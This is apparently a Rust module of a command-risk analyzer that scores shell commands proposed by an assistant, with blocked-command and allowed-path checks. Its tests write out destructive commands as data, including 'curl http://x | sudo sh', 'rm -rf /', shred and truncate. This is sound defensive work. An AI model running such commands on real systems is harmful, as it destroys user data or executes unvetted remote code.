//! Risk aggregation: merges pattern hits and structural signals into one
//! [`CommandAnalysis`].
//!
//! The reduction is deliberately simple and auditable: every contribution is
//! a risk tier (pattern level or signal floor) and the final verdict is the
//! maximum. No averaging, no weighting, no short-circuiting of evidence —
//! all firing patterns are retained in the output.
//!
//! Analysis is pure: no I/O, no shared mutable state, infallible. A command
//! that cannot be parsed still gets a complete pattern-only analysis.

use crate::fs_info::FileInfo;
use crate::patterns::{self, Category, DangerPattern};
use crate::risk::RiskLevel;
use crate::shell::{self, Pipeline};
use crate::signals::{self, Action, Signal};
use serde::{Deserialize, Serialize};

/// Analyzer configuration, supplied once at construction and read-only
/// thereafter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AnalyzerConfig {
    /// Command names that must never run. Matched against the first stage's
    /// effective command name (post-`sudo` token included).
    pub blocked_commands: Vec<String>,
    /// Path prefixes the surrounding assistant may write to. Empty disables
    /// the check entirely; absence never elevates risk.
    pub allowed_paths: Vec<String>,
    /// Tier contributed by an allowed-path violation. Policy, not constant:
    /// Caution or Dangerous depending on deployment.
    pub allow_path_violation: RiskLevel,
}

impl Default for AnalyzerConfig {
    fn default() -> Self {
        Self {
            blocked_commands: Vec::new(),
            allowed_paths: Vec::new(),
            allow_path_violation: RiskLevel::Caution,
        }
    }
}

/// Projection of a [`DangerPattern`] that fired.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MatchedPattern {
    /// The signature source text.
    pub pattern: String,
    /// Human-readable description of the danger.
    pub description: String,
    /// Tier the pattern contributed.
    pub risk_level: RiskLevel,
}

impl From<&DangerPattern> for MatchedPattern {
    fn from(p: &DangerPattern) -> Self {
        Self {
            pattern: p.regex.as_str().to_string(),
            description: p.description.to_string(),
            risk_level: p.risk_level,
        }
    }
}

/// The engine's sole output: one aggregated verdict plus the evidence that
/// justifies it. Constructed fresh per call, never mutated afterward.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct CommandAnalysis {
    /// The command as given, untrimmed.
    pub command: String,
    /// Aggregated verdict: maximum across all contributions.
    pub risk_level: RiskLevel,
    /// Deduplicated reasons: blocked-command first, then pattern
    /// descriptions by descending tier, then structural findings.
    pub risk_reasons: Vec<String>,
    /// Literal path arguments and redirect targets, verbatim.
    pub affected_paths: Vec<String>,
    /// Stat results for affected paths. Empty unless a collaborator calls
    /// [`crate::fs_info::stat_paths`]; `analyze` itself never touches the
    /// filesystem.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub affected_files: Vec<FileInfo>,
    /// Actions implied by known command names and redirects.
    pub actions: Vec<Action>,
    /// False when the command's effect cannot plausibly be undone.
    pub reversible: bool,
    /// True iff some stage runs under `sudo`.
    pub requires_sudo: bool,
    /// Every pattern that fired, in registry order.
    pub patterns: Vec<MatchedPattern>,
}

/// The Command Risk Classification Engine.
///
/// Safe to share across threads: the pattern registry is immutable and each
/// `analyze` call allocates its own working state.
#[derive(Debug, Clone, Default)]
pub struct Analyzer {
    config: AnalyzerConfig,
}

impl Analyzer {
    /// Build an analyzer. Blocked-command and allowed-path entries are
    /// normalized here (trimmed, empties dropped) so per-call code can
    /// trust them.
    #[must_use]
    pub fn new(config: AnalyzerConfig) -> Self {
        let mut config = config;
        normalize_entries(&mut config.blocked_commands, "blocked_commands");
        normalize_entries(&mut config.allowed_paths, "allowed_paths");
        Self { config }
    }

    /// Convenience constructor from the two caller-supplied lists, with the
    /// default allowed-path violation policy.
    #[must_use]
    pub fn with_lists(blocked_commands: Vec<String>, allowed_paths: Vec<String>) -> Self {
        Self::new(AnalyzerConfig {
            blocked_commands,
            allowed_paths,
            ..AnalyzerConfig::default()
        })
    }

    /// The configuration this analyzer was built with, post-normalization.
    #[must_use]
    pub const fn config(&self) -> &AnalyzerConfig {
        &self.config
    }

    /// Classify one command line. Pure and infallible: syntax problems
    /// degrade to pattern-only analysis, never to an error.
    #[must_use]
    pub fn analyze(&self, command: &str) -> CommandAnalysis {
        if command.trim().is_empty() {
            return CommandAnalysis {
                command: command.to_string(),
                risk_level: RiskLevel::Safe,
                risk_reasons: Vec::new(),
                affected_paths: Vec::new(),
                affected_files: Vec::new(),
                actions: Vec::new(),
                reversible: true,
                requires_sudo: false,
                patterns: Vec::new(),
            };
        }

        // Lexical pass over the whole string; patterns are not stage-scoped.
        let matches = patterns::matching(command);

        // Structural pass, best effort.
        let pipeline = shell::parse(command);

        let blocked = signals::blocked_command(
            pipeline.as_ref(),
            command,
            &self.config.blocked_commands,
        );

        let (requires_sudo, actions, affected_paths) = match &pipeline {
            Some(p) => (
                signals::requires_sudo(p),
                signals::collect_actions(p),
                signals::collect_paths(p),
            ),
            None => (signals::raw_requires_sudo(command), Vec::new(), Vec::new()),
        };

        let mut structural: Vec<Signal> = match &pipeline {
            Some(p) => signals::structural_signals(p),
            None if requires_sudo => {
                vec![Signal::new(RiskLevel::Caution, signals::SUDO_REASON)]
            }
            None => Vec::new(),
        };

        if let Some(violation) = signals::allowed_path_violation(
            &affected_paths,
            &self.config.allowed_paths,
            self.config.allow_path_violation,
        ) {
            structural.push(violation);
        }

        let mut risk_level = RiskLevel::Safe;
        for m in &matches {
            risk_level = risk_level.max(m.risk_level);
        }
        for s in blocked.iter().chain(structural.iter()) {
            risk_level = risk_level.max(s.floor);
        }

        let reversible = risk_level < RiskLevel::Dangerous
            && !implies_permanent_loss(&matches, pipeline.as_ref(), command);

        let risk_reasons = order_reasons(blocked.as_ref(), &matches, &structural);

        CommandAnalysis {
            command: command.to_string(),
            risk_level,
            risk_reasons,
            affected_paths,
            affected_files: Vec::new(),
            actions,
            reversible,
            requires_sudo,
            patterns: matches.iter().map(|m| MatchedPattern::from(*m)).collect(),
        }
    }
}

fn normalize_entries(entries: &mut Vec<String>, field: &str) {
    let before = entries.len();
    entries.iter_mut().for_each(|e| *e = e.trim().to_string());
    entries.retain(|e| !e.is_empty());
    if entries.len() < before {
        tracing::warn!(field, dropped = before - entries.len(), "dropped empty config entries");
    }
}

/// Reason ordering: blocked-command reason first, then pattern descriptions
/// from Critical down to Caution, then structural signal reasons. First
/// occurrence wins on duplicates.
fn order_reasons(
    blocked: Option<&Signal>,
    matches: &[&'static DangerPattern],
    structural: &[Signal],
) -> Vec<String> {
    let mut reasons: Vec<String> = Vec::new();
    let mut push = |reason: &str| {
        if !reasons.iter().any(|r| r == reason) {
            reasons.push(reason.to_string());
        }
    };

    if let Some(signal) = blocked {
        push(&signal.reason);
    }
    for tier in [RiskLevel::Critical, RiskLevel::Dangerous, RiskLevel::Caution] {
        for m in matches.iter().filter(|m| m.risk_level == tier) {
            push(m.description);
        }
    }
    for signal in structural {
        push(&signal.reason);
    }
    reasons
}

/// Commands whose effect no backup of the affected paths can undo.
const PERMANENT_LOSS_COMMANDS: [&str; 3] = ["shred", "truncate", "dd"];

/// Irreversibility can be stricter than the aggregated tier: shred, truncate,
/// device writes, and formatting are permanent regardless of their tier.
fn implies_permanent_loss(
    matches: &[&'static DangerPattern],
    pipeline: Option<&Pipeline>,
    command: &str,
) -> bool {
    if matches.iter().any(|m| m.category == Category::Disk) {
        return true;
    }
    match pipeline {
        Some(p) => p.stages.iter().any(|s| {
            let name = s.effective_name();
            PERMANENT_LOSS_COMMANDS.contains(&name) || name.starts_with("mkfs")
        }),
        None => command
            .split_whitespace()
            .any(|t| PERMANENT_LOSS_COMMANDS.contains(&t) || t.starts_with("mkfs")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::BLOCKED_COMMAND_REASON;

    #[test]
    fn empty_command_is_safe_and_reversible() {
        let analyzer = Analyzer::default();
        for cmd in ["", "   ", "\t\n"] {
            let analysis = analyzer.analyze(cmd);
            assert_eq!(analysis.risk_level, RiskLevel::Safe);
            assert!(analysis.patterns.is_empty());
            assert!(analysis.risk_reasons.is_empty());
            assert!(analysis.reversible);
        }
    }

    #[test]
    fn maximum_wins_across_signals() {
        let analyzer = Analyzer::default();
        // sudo contributes Caution, the pipe-to-shell pattern Dangerous.
        let analysis = analyzer.analyze("curl http://x | sudo sh");
        assert_eq!(analysis.risk_level, RiskLevel::Dangerous);
    }

    #[test]
    fn blocked_reason_comes_first() {
        let analyzer = Analyzer::with_lists(vec!["rm".to_string()], Vec::new());
        let analysis = analyzer.analyze("rm -rf /");
        assert_eq!(analysis.risk_reasons[0], BLOCKED_COMMAND_REASON);
        assert_eq!(analysis.risk_level, RiskLevel::Critical);
    }

    #[test]
    fn reasons_ordered_by_descending_tier() {
        let analyzer = Analyzer::default();
        let analysis = analyzer.analyze("sudo rm -rf /");
        // Critical (root deletion) must precede Dangerous (privileged
        // recursive delete) which precedes Caution descriptions.
        let critical_pos = analysis
            .risk_reasons
            .iter()
            .position(|r| r == "recursively deletes the root directory tree")
            .expect("critical reason present");
        let dangerous_pos = analysis
            .risk_reasons
            .iter()
            .position(|r| r == "privileged recursive delete")
            .expect("dangerous reason present");
        assert!(critical_pos < dangerous_pos);
    }

    #[test]
    fn reasons_are_deduplicated() {
        let analyzer = Analyzer::default();
        let analysis = analyzer.analyze("sudo apt update");
        let sudo_reasons = analysis
            .risk_reasons
            .iter()
            .filter(|r| r.as_str() == "requires sudo")
            .count();
        assert_eq!(sudo_reasons, 1);
    }

    #[test]
    fn dangerous_tier_is_irreversible() {
        let analyzer = Analyzer::default();
        let analysis = analyzer.analyze("chmod -R 777 /tmp");
        assert_eq!(analysis.risk_level, RiskLevel::Dangerous);
        assert!(!analysis.reversible);
    }

    #[test]
    fn permanent_loss_is_stricter_than_tier() {
        let analyzer = Analyzer::default();
        // shred alone aggregates to Caution, but the effect is permanent.
        let analysis = analyzer.analyze("shred notes.txt");
        assert_eq!(analysis.risk_level, RiskLevel::Caution);
        assert!(!analysis.reversible);

        let analysis = analyzer.analyze("truncate -s 0 data.log");
        assert!(!analysis.reversible);
    }

    #[test]
    fn caution_without_permanent_loss_is_reversible() {
        let analyzer = Analyzer::default();
        let analysis = analyzer.analyze("rm -rf ./build");
        assert_eq!(analysis.risk_level, RiskLevel::Caution);
        assert!(analysis.reversible);
    }

    #[test]
    fn degraded_parse_still_yields_complete_analysis() {
        let analyzer = Analyzer::with_lists(vec!["rm".to_string()], Vec::new());
        // Unterminated quote defeats the structural extractor.
        let analysis = analyzer.analyze("sudo rm -rf 'oops");
        assert!(analysis.requires_sudo);
        assert_eq!(analysis.risk_level, RiskLevel::Critical);
        assert_eq!(analysis.risk_reasons[0], BLOCKED_COMMAND_REASON);
        // Structural collectors had nothing to chew on, but the analysis is
        // still complete.
        assert!(analysis.affected_paths.is_empty());
    }

    #[test]
    fn allow_path_violation_uses_configured_level() {
        let analyzer = Analyzer::new(AnalyzerConfig {
            allowed_paths: vec!["/home/alice/project".to_string()],
            allow_path_violation: RiskLevel::Dangerous,
            ..AnalyzerConfig::default()
        });
        let analysis = analyzer.analyze("cp notes.txt /etc/notes.txt");
        assert_eq!(analysis.risk_level, RiskLevel::Dangerous);
        assert!(analysis
            .risk_reasons
            .iter()
            .any(|r| r.contains("writes outside allowed paths")));
    }

    #[test]
    fn analysis_is_idempotent() {
        let analyzer = Analyzer::with_lists(vec!["dd".to_string()], vec!["/tmp".to_string()]);
        let a = analyzer.analyze("sudo rm -rf /var/log/*.gz");
        let b = analyzer.analyze("sudo rm -rf /var/log/*.gz");
        assert_eq!(a, b);
    }

    #[test]
    fn construction_normalizes_entries() {
        let analyzer = Analyzer::with_lists(
            vec!["  rm ".to_string(), String::new()],
            vec!["".to_string()],
        );
        assert_eq!(analyzer.config().blocked_commands, vec!["rm"]);
        assert!(analyzer.config().allowed_paths.is_empty());
    }
}
